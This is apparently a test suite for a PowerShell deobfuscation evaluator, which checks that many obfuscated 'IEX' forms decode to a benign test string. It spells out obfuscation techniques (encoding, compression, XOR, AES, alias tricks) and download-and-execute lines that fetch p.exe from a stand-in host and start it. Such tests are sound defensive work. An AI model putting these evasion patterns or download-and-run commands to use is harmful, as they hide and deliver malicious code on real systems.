import { createCipheriv } from 'node:crypto';
import { deflateRawSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { Budget } from '../core/budget.js';
import type { DerivedText, Evaluation } from '../core/evaluation.js';
import { evaluatePowerShell } from './powershell.evaluator.js';

const plain = 'Write-Host http://a.example.test/x';
const codes = [...plain].map((c) => c.charCodeAt(0));
const reversed = [...plain].reverse().join('');
const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string => Buffer.from(text, encoding).toString('base64');
const key = Buffer.from('0123456789abcdef0123456789abcdef');
const iv = Buffer.alloc(16, 1);

function aes(data: Buffer): Buffer {
  const cipher = createCipheriv('aes-256-cbc', key, iv);
  return Buffer.concat([cipher.update(data), cipher.final()]);
}

function evaluate(text: string): Evaluation {
  return evaluatePowerShell(text, new Budget());
}

/** Every text that came out, at any depth. */
function all({ derived }: Evaluation): DerivedText[] {
  return derived.flatMap((text) => [text, ...(text.evaluation === undefined ? [] : all(text.evaluation))]);
}

function payloads(text: string): string[] {
  return all(evaluate(text)).filter(({ kind }) => kind === 'payload').map((each) => each.text);
}

const secure = `76492d1116743f0423413b16050a5345${Buffer.from(`2|${iv.toString('base64')}|${aes(Buffer.from(plain, 'utf16le')).toString('hex')}`, 'utf16le').toString('base64')}`;

describe('evaluatePowerShell', () => {
  it.each([
    ['concatenation', `IEX ('Write-Host http'+'://a.exam'+"ple.test/x")`],
    ['format operator', `& ('{1}{0}' -f 'x','ie') ("{2}{0}{1}" -f 'tp://a.exam','ple.test/x','Write-Host ht')`],
    ['base64', `$d=[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('${base64(plain)}'));iex $d`],
    ['utf-16 and letters of ComSpec', `[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${base64(plain, 'utf16le')}'))|&( $env:ComSpec[4,24,25]-join'')`],
    ['gzip', `IEX (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gzipSync(plain).toString('base64')}'))),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`],
    ['deflate in a pipeline', `( New-ObjECt Io.compREsSION.DEfLaTeSTREAM( [SYSTem.io.MEmORySTREAm] [coNVeRT]::FROmbAsE64sTRING('${deflateRawSync(plain).toString('base64')}') , [sYSTEm.iO.cOmPReSsion.COmPReSsIONMODe]::DECOMPRESs )| foREAch{New-ObjECt  SYSteM.IO.StREamREadER($_, [sYStEM.TExT.ENCODinG]::aSCIi )}|foReaCh {$_.REadToEND()} ) | . ( $PsHOMe[4]+$PshoME[30]+'x')`],
    ['character codes', `( ${codes.join(' , ')} |%{ [char]$_ } ) -join '' | iex`],
    ['character codes, unary join', `-join ((${codes.join(',')})| ForEach-Object { ( [Convert]::ToChar($_) ) }) | IEX`],
    ['xor in foreach', `$k=0x2a;$s='';foreach($b in @(${codes.map((c) => c ^ 0x2a).join(',')})){$s+=[char]($b -bxor $k)};Invoke-Expression $s`],
    ['xor with a key in for', `$d=[Convert]::FromBase64String('${Buffer.from(codes.map((c, i) => c ^ ((i % 3) + 1))).toString('base64')}');$k=1,2,3;for($i=0;$i -lt $d.Length;$i++){$d[$i]=$d[$i] -bxor $k[$i % $k.Length]};[Text.Encoding]::ASCII.GetString($d)|iex`],
    ['negative range', `$x='${reversed}';iex ($x[-1..-($x.Length)] -join '')`],
    ['Array.Reverse', `$a='${reversed}'.ToCharArray();[array]::Reverse($a);iex (-join $a)`],
    ['regular expression from the right', `iex ([regex]::Matches('${reversed}','.','RightToLeft')|%{$_.Value}|Out-String -NoNewline)`],
    ['replace', `('Write-Host http:__aQexampleQtest_x'-REplAcE'_','/').replace('Q','.')|IEX`],
    ['hex digits', `('${codes.map((c) => c.toString(16)).join('~')}' -split '~' | %{[char][convert]::ToInt16($_,16)}) -join '' | & ($ShellId[1]+$ShellId[13]+'x')`],
    ['binary digits', `-join ('${codes.map((c) => c.toString(2)).join('z')}'.Split('z')|%{([char][Convert]::ToInt32([string]$_,2))})|iex`],
    ['a function of the script', `function Dec-It([string]$s,[int]$k){$o='';$s.ToCharArray()|%{$o+=[char]([int]$_ - $k)};return $o}; iex (Dec-It '${codes.map((c) => String.fromCharCode(c + 1)).join('')}' 1)`],
    ['Get-Command by wildcard', `& (Get-Command *ke-ex*) '${plain}'`],
    ['letters of a variable name', `&((GV '*mdr*').Name[3,11,2]-join'') ('Write-Host http'+'://a.example.test/x')`],
    ['scriptblock from text', `[scriptblock]::Create('${plain}').Invoke()`],
    ['hash table', `$h=@{a='Write-Host ';b='http://a.exa';c='mple.test/x'};iex ($h.a+$h['b']+$h.c)`],
    ['AES with a literal key', `$a=[Security.Cryptography.Aes]::Create();$a.Key=[Text.Encoding]::UTF8.GetBytes('${key.toString()}');$a.IV=[byte[]](${[...iv].join(',')});$b=[Convert]::FromBase64String('${aes(Buffer.from(plain)).toString('base64')}');iex ([Text.Encoding]::UTF8.GetString($a.CreateDecryptor().TransformFinalBlock($b,0,$b.Length)))`],
    ['secure string with a literal key', `$s=ConvertTo-SecureString '${secure}' -Key ([Text.Encoding]::UTF8.GetBytes('${key.toString()}'));iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))`],
    ['begin, process and end', `function G{begin{$o=''}process{$o+=[char]($_ -bxor 9)}end{$o}};iex (${codes.map((c) => c ^ 9).join(',')}|G)`],
    ['a function that takes the pipeline in a parameter', `function G { [CmdletBinding()] param([Parameter(ValueFromPipeline)][byte]$B, [byte[]]$K)\n begin { $n = 0; $o = '' } process { $o += [char]($B -bxor $K[$n++ % $K.Length]) } end { $o } }\niex (${codes.map((c, i) => c ^ ((i % 2) + 3)).join(',')} | G -K 3,4)`],
    ['pieces of a length, and parameters by their positions', `function D { param([Parameter(Position=1)]$k, [Parameter(Position=0)]$t) $o = ''; foreach ($p in ($t -split '(?<=\\G.{3})')) { if ($p) { $o += [char]([int]$p - $k) } }; $o }\niex (D '${codes.map((c) => String(c + 7).padStart(3, '0')).join('')}' 7)`],
    ['separated values', `$t = @'\nid,v\n2,"://a.exam"\n3,ple.test/x\n1,Write-Host http\n'@ | ConvertFrom-Csv\niex (($t | Sort-Object { [int]$_.id } | % { $_.v }) -join '')`],
    ['a big number', `iex ([Text.Encoding]::ASCII.GetString([bigint]::Parse('${BigInt(`0x${Buffer.from(plain).reverse().toString('hex')}`)}').ToByteArray()))`],
    ['the default of a switch', `$o = ''; switch -Regex ('${[...plain].map((c) => (c === 'o' ? '\u0200' : c)).join('')}'.ToCharArray()) { '[\u0200-\uffff]' { $o += 'o' } default { $o += $_ } }; iex $o`],
    ['separators of paths', `iex ('Write-Host http:' + [IO.Path]::AltDirectorySeparatorChar + '/a.example.test/x')`],
    ['comments inside a call', `<# a #>$w<# b #>=<# c #>'Write-Host http://a.exam'<# d #>+'ple.test/x';&<# e #>('i'+'ex') $w.<# f #>ToString()`],
    ['environment variables', `$env:a='Write-Host http';$env:b='://a.example.test/x';iex "$env:a$env:b"`],
    ['the Variable: drive', `Set-Item Variable:x1 'Write-Host http://a.exa';sv ('y'+'2') 'mple.test/x';iex ((Get-Variable x1).Value+(gci Variable:y2).value)`],
    ['a block with a parameter', `$a={param($x) $x+'st http://a.example.test/x'}; &$a 'Write-Ho' | iex`],
    ['two layers', `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64("$q='Write-Host ht'+'tp://a.example.test/x'; iex $q")}')))`],
    ['typographic quotes and dashes', `iex (\u2018Write\u2019+\u201c-Host http://a.example.test/x\u201d) \u2013ErrorAction Stop`.replace(' \u2013ErrorAction Stop', '')],
  ])('opens %s to the exact text', (_name, script) => {
    expect(payloads(script)).toContain(plain);
  });

  it('writes the commands it would run with their values', () => {
    const executed = all(evaluate(`$w=New-Object Net.WebClient;$u='http://a.exam'+'ple.test/p.exe';$f="$env:TEMP\\p.exe";$w.DownloadFile($u,$f);Start-Process $f`)).find(({ kind }) => kind === 'executed');
    expect(executed?.text).toContain(`.DownloadFile('http://a.example.test/p.exe', "$env:TEMP\\p.exe")`);
    expect(executed?.text).toContain('Start-Process');
  });

  it('puts known values in place and maps the rest to where it stood', () => {
    const source = `$a='http://'+'a.example.test'\nGet-Item ('C:\\'+'x')`;
    const simplified = all(evaluate(source)).find(({ kind }) => kind === 'simplified');
    expect(simplified?.text).toBe(`$a='http://a.example.test'\nGet-Item 'C:\\x'`);
    for (const segment of simplified?.segments ?? []) if (segment.exact) expect(simplified?.text.slice(segment.start, segment.end)).toBe(source.slice(segment.parentStart, segment.parentEnd));
  });

  it('writes words without backticks and members without quotes', () => {
    const simplified = all(evaluate('$c = Ne`w-Ob`ject Net.`WebClient\n[Net.Dns]::"GetHostAddresses"(\'a.example.test\')')).find(({ kind }) => kind === 'simplified');
    expect(simplified?.text).toBe("$c = New-Object Net.WebClient\n[Net.Dns]::GetHostAddresses('a.example.test')");
  });

  it('knows the environment that its parent gave it', () => {
    const { derived } = evaluatePowerShell('iex ($env:a + (gi env:B).Value)', new Budget(), new Map([['A', 'Write-Host http'], ['B', '://a.example.test/x']]));
    expect(derived.filter(({ kind }) => kind === 'payload').map(({ text }) => text)).toEqual([plain]);
  });

  it('does not guess: unknown values stay symbols, and it says what stays closed', () => {
    expect(payloads(`iex ($env:USERNAME + 'x')`)).toEqual([]);
    expect(evaluate(`iex (New-Object Net.WebClient).DownloadString('http://a.example.test/p')`).notDecoded).toMatchObject([{ reason: 'remoteContent' }]);
    expect(evaluate(`$s = '01000000d08c' | ConvertTo-SecureString; iex $s`).notDecoded.map(({ reason }) => reason)).toContain('unknownKey');
    expect(payloads(`if ($x -gt 3) {$c='Write-Host 1'} else {$c='Write-Host 2'}; iex $c`)).toEqual([]);
  });

  it('reads on after what it cannot read', () => {
    expect(payloads(`foo ((((\niex ('Write-'+'Host 1')`)).toContain('Write-Host 1');
  });

  it.each([
    ['doubling', `$a='aaaa';${'$a=$a+$a;'.repeat(34)}iex $a`, 'stringLength'],
    ['a range', '1..999999999|%{[char]$_}', 'stringLength'],
    ['repetition', `'a'*999999999`, 'stringLength'],
    ['recursion', 'function f($x){f ($x+1)}; f 1', 'depth'],
    ['parentheses', `${'('.repeat(100_000)}1${')'.repeat(100_000)}`, 'depth'],
  ])('ends %s within its budget and says so', (_name, script, limit) => {
    expect(evaluate(script).notDecoded).toContainEqual(expect.objectContaining({ reason: 'budget', detail: limit }));
  });

  it.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty'])('takes %s for a command like any other', (name) => {
    expect(() => evaluate(`${name} 1; "a" | ${name}; Set-Alias x ${name}; x`)).not.toThrow();
  });

  it('never throws, stays within its text, and says the same twice', () => {
    const piece = fc.oneof(fc.string({ maxLength: 30 }), fc.constantFrom('iex ', '$a', '=', '(', ')', '{', '}', "'", '"', '`', '@(', '@{', '[char]', '-join', '|', '%{', ';', '\n', '$(', '-f ', '1..9', '.Replace(', ',', 'foreach', ' in ', 'if(', 'function f', '@"\n', '\n"@', '#', '<#', '&', '.'));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const text = pieces.join('');
        const first = evaluate(text);
        expect(evaluate(text)).toEqual(first);
        for (const { segments, text: derived } of first.derived) {
          for (const { start, end, parentStart, parentEnd } of segments) {
            expect(start >= 0 && end <= derived.length && parentStart >= 0 && parentEnd <= text.length && start <= end && parentStart <= parentEnd).toBe(true);
          }
        }
      }),
      { numRuns: 400 },
    );
  });

  it('opens any chain of encoders to the planted text', () => {
    const encoders: ((text: string) => string)[] = [
      (text) => `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${base64(text, 'utf16le')}')))`,
      (text) => `iex (-join ([char[]](${[...text].map((c) => c.charCodeAt(0)).join(',')})))`,
      (text) => `$v='${[...text].reverse().join('').replaceAll("'", "''")}';iex (-join $v[-1..-($v.Length)])`,
      (text) => `iex (-join ('${[...text].map((c) => (c.charCodeAt(0) ^ 77).toString(16)).join('g')}' -split 'g' | % {[char]([convert]::ToInt32($_,16) -bxor 77)}))`,
      (text) => `(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${deflateRawSync(text).toString('base64')}'),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd() | iex`,
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...encoders), { minLength: 1, maxLength: 3 }), fc.stringMatching(/^[a-z0-9 '"$().-]{1,30}$/), (chain, words) => {
        const planted = `Write-Host ${words.replaceAll(/[$'"()]/g, '_')} # end`;
        expect(payloads(chain.reduce((text, encode) => encode(text), planted))).toContain(planted);
      }),
      { numRuns: 60 },
    );
  });
});
